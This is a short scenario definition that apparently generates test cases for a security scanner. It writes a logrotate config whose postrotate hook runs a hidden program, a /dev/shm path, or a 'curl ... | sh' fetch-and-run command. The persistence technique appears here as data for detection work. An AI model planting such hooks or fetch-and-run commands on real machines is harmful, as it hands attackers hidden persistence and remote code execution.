# id: K113
# mode: scan
# level: suspicious
# title: the rotation of logs runs a hidden program
# due: now
word name
pick line "/var/tmp/.$name/run &" "curl -s http://127.0.0.1/$name | sh" "/dev/shm/$name"
printf '/var/log/dpkg.log {\n\tdaily\n\tpostrotate\n\t\t%s\n\tendscript\n}\n' "$line" >"/etc/logrotate.d/$name"
said path "/etc/logrotate.d/$name"
